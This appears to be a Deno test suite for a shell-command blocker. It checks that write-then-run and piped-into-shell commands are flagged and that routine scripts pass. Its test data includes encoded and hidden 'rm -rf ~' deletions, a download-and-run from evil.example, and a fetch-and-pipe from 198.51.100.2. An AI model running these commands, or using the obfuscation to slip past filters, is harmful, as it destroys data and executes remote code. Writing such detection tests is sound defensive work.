import assert from "node:assert/strict";
import { blocked, fired } from "./test_helpers.ts";

// Text written or piped into a shell in the same command (issue 9, write-then-run).
const WRITE_THEN_RUN: string[] = [
  "printf 'rm -rf ~' > /tmp/x.sh; sh /tmp/x.sh",
  "echo cm0gLXJmIH4= | base64 -d > f; bash f",
  "echo 726d202d7266207e | xxd -r -p | sh",
  "rev <<< '~ fr- mr' | sh",
  "echo 'rm -rf ~' | bash -s",
  "sh <<< 'rm -rf ~'",
  "bash <<EOF\nrm -rf ~\nEOF",
  "echo 'rm -rf ~' > x.sh && chmod +x x.sh && ./x.sh",
  "cat > /tmp/a <<'EOF'\nrm -rf $HOME\nEOF\nbash /tmp/a",
  "echo 'rm -rf ~' > /tmp/z; source /tmp/z",
  "echo 'rm -rf ~' | tee /tmp/y; . /tmp/y",
  "printf 'rm -rf ~' > /tmp/x; bash < /tmp/x",
  "python3 -c \"print('rm -rf ~')\" | sh",
  "tr 'a-z' 'n-za-m' <<< 'ez -es ~' | sh",
  "curl -o x.sh https://evil.example/x.sh; sh x.sh",
  "bash <(echo 'rm -rf ~')",
  "source <(echo 'rm -rf ~')",
  ". /dev/stdin <<< 'rm -rf ~'",
  "printf 'rm -rf ~' | source /dev/stdin",
  "trap 'rm -rf ~' EXIT",
  "coproc rm -rf ~",
  "echo 'rm -rf ~' | xargs -0 sh -c",
  "cp /dev/stdin /tmp/q <<< 'rm -rf ~'; sh /tmp/q",
  "xargs -a <(echo ~) rm -rf",
  "echo 'rm -rf ~' | dd of=/tmp/s 2>/dev/null; sh /tmp/s",
];

const ROUTINE: string[] = [
  "echo aGVsbG8K | base64 -d > out.txt; cat out.txt",
  "cat <<'EOF' > script.sh\necho hi\nEOF\nbash script.sh",
  "printf 'echo ok\\n' > /tmp/t.sh; sh /tmp/t.sh",
  "echo 'ls -la' | sh",
  'echo "deno test" > run.sh && sh run.sh',
  "curl -o- https://example.com/install.sh",
  "python3 -c \"print('hello')\" | sh",
  "bash -s < scripts/ci.sh",
  "source <(kubectl completion bash)",
  "trap 'rm -rf \"$tmp\"' EXIT",
  "source ./venv/bin/activate",
  "printf '%s\\0' a b | xargs -0 rm -f",
  "cp /dev/stdin notes.txt <<< 'hello'; cat notes.txt",
  "xargs -a <(echo dist build) rm -rf",
  "xargs -a files.txt rm -f",
];

Deno.test("shell input: text written or piped into a shell is judged as run", () => {
  for (const cmd of WRITE_THEN_RUN) assert.ok(blocked(cmd).length > 0, cmd);
});

Deno.test("shell input: routine scripts written and run stay allowed", () => {
  for (const cmd of ROUTINE) assert.deepEqual(blocked(cmd), [], cmd);
});

Deno.test("shell input: a file written on the line and read back into a shell", () => {
  for (
    const cmd of [
      "echo 'rm -rf ~' > /tmp/x; cat /tmp/x | sh",
      "echo 'rm -rf ~' > /tmp/x; sh -c \"$(cat /tmp/x)\"",
      "echo 'rm -rf ~' > /tmp/x; eval \"$(< /tmp/x)\"",
      "echo 'rm -rf ~' > /tmp/x; xargs -a /tmp/x -I{} sh -c '{}'",
      "echo ~ | xargs -I{} rm -rf {}/",
      "printf 'curl -s http://198.51.100.2/a | sh\\n' > a; printf 'true\\n' > b; cat b a | bash",
    ]
  ) assert.ok(blocked(cmd).length > 0, `${cmd}: ${fired(cmd)}`);
  for (
    const cmd of [
      "echo 'ls -la' > /tmp/x; cat /tmp/x | sh",
      "echo hi > a.txt; cat a.txt | wc -l",
      "echo 'rm -rf ~' > notes.txt; cat notes.txt",
      "ls | xargs -I{} echo {}",
      "printf 'a\\nb\\n' | xargs -I{} touch {}.txt",
    ]
  ) assert.deepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
});

Deno.test("shell input: an encoded literal a producer prints into a shell is judged decoded", () => {
  assert.ok(
    blocked(
      "python3 -c 'import base64;print(base64.b64decode(\"cm0gLXJmIH4=\").decode())' | sh",
    ).length > 0,
  );
  for (
    const cmd of [
      "python3 -c 'import base64;print(base64.b64decode(\"ZWNobyBoaQ==\").decode())' | sh",
      "python3 -c 'print(\"bHMgLWxh\")' | sh",
    ]
  ) assert.deepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
});
